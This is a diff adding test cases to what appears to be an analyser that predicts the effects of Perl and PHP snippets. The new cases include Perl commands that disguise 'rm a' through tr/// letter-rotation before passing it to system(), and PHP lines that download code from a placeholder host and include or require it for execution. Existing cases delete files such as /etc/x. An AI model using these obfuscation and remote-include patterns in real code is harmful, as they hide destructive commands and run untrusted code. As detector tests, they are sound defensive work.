@@ -257,6 +257,11 @@ const programs: Readonly<Record<Language, readonly (readonly [string, ...Effect[
   ],
   perl: [
     ['unlink "/etc/x"', gone("/etc/x")],
+    ['$_ = "ez n"; tr/a-z/n-za-m/; system($_)', ran("rm a")],
+    ['($c = "sn b") =~ tr/a-z/za-y/; system $c', ran("rm a")],
+    ['my $c = "ez n"; system($c =~ y/a-z/n-za-m/r)', ran("rm a")],
+    ['my $c = "r-m a"; $c =~ tr/-//d; system $c', ran("rm a")],
+    ["my $n = ($x =~ tr/a-z//); print $n"],
     ["unlink('a', 'b') or die", gone("a"), gone("b")],
     ['unlink glob("*.o")', gone("*.o")],
     ["unlink <*.c>", gone("*.c")],
@@ -371,6 +376,14 @@ const programs: Readonly<Record<Language, readonly (readonly [string, ...Effect[
   ],
   php: [
     ["unlink('/etc/x');", gone("/etc/x")],
+    [
+      "copy('https://e.test/x', 'x.php'); include 'x.php';",
+      { do: "fetch", url: "https://e.test/x" },
+      wrote("x.php"),
+      { do: "exec" },
+    ],
+    ["require_once('https://e.test/x');", { do: "fetch", url: "https://e.test/x" }, { do: "exec" }],
+    ["require 'vendor/autoload.php'; echo App\\V::X;"],
     ['$d = "/tmp"; unlink("$d/x"); unlink("{$d}/y");', gone("/tmp/x"), gone("/tmp/y")],
     ["unlink($_GET['x']);", gone()],
     ["rmdir(getenv('HOME') . '/x');", gone("~/x")],
